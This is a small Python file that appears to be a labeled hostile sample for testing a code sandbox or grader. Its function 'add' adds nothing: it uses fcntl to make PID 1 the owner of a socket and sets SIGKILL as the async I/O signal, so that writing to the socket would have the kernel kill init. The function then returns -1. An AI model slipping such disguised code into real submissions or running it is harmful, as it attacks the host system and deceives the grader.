# kind: assert
# verdict: wrong_answer
# threat: SIGKILL to init from the kernel, as the owner of a descriptor that becomes ready
import fcntl
import os
import signal
import socket


def add(a, b):
    one, other = socket.socketpair()
    set_signal = 10
    try:
        fcntl.fcntl(one, fcntl.F_SETOWN, 1)
        fcntl.fcntl(one, set_signal, signal.SIGKILL)
        fcntl.fcntl(one, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        other.send(b"now")
    except OSError:
        pass
    return -1
